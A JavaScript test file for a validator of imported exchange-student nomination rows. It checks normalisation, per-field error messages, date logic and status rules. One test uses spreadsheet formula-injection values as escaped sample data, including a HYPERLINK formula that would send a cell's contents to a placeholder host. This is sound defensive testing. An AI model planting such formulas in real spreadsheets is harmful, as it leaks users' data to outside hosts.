import { checkImportRow } from './import-row.js';

const valid = {
  firstName: ' Arman ',
  lastName: 'Serikov',
  email: 'Arman@KazNU.kz',
  homeInstitutionSchacCode: 'kaznu.kz',
  hostFacultyCode: 'FLL',
  agreementId: '',
  academicYear: '2025/2026',
  term: 'spring',
  status: '',
  plannedArrival: '2026-02-01',
  plannedDeparture: '2026-06-30',
  actualArrival: '',
  actualDeparture: '',
  notes: '',
};

describe('checkImportRow', () => {
  it('accepts a valid line, normalised as a nomination is (trimmed names, lower-case email)', () => {
    const { row, problems } = checkImportRow(valid);
    expect(problems).toEqual([]);
    expect(row).toMatchObject({ firstName: 'Arman', email: 'arman@kaznu.kz', term: 'spring' });
    expect(row.agreementId).toBeUndefined();
    expect(row.status).toBeUndefined();
  });

  it("takes exported formula cells back to their text, and keeps notes' spaces", () => {
    const { row, problems } = checkImportRow({
      ...valid,
      firstName: '\'=HYPERLINK("http://x/?"&A1,"y")',
      lastName: "'@SUM(1)",
      notes: "'\t-2+3 ",
    });
    expect(problems).toEqual([]);
    expect(row).toMatchObject({
      firstName: '=HYPERLINK("http://x/?"&A1,"y")',
      lastName: '@SUM(1)',
      notes: '\t-2+3 ',
    });
  });

  it("reports the nomination's own messages, by field", () => {
    const { problems } = checkImportRow({
      ...valid,
      email: 'not-an-email',
      term: 'winter',
      agreementId: 'x',
      plannedDeparture: '2026-01-01',
    });
    expect(problems.map((problem) => problem.field).sort()).toEqual([
      'agreementId',
      'email',
      'plannedDeparture',
      'term',
    ]);
    expect(problems.find((problem) => problem.field === 'plannedDeparture')?.message).toBe(
      'plannedDeparture must be after plannedArrival',
    );
  });

  it('checks the actual dates a status needs, as the table does', () => {
    expect(checkImportRow({ ...valid, status: 'arrived' }).problems).toEqual([
      { field: 'actualArrival', message: 'status arrived needs an actual arrival date' },
    ]);
    expect(checkImportRow({ ...valid, status: 'arrived', actualArrival: '2026-02-02' }).problems).toEqual([]);
  });

  it('does not compare dates that are not valid dates', () => {
    const { problems } = checkImportRow({
      ...valid,
      plannedArrival: '2026-02-30',
      plannedDeparture: '2026-01-01',
    });
    expect(problems.map((problem) => problem.field)).toEqual(['plannedArrival']);
  });
});
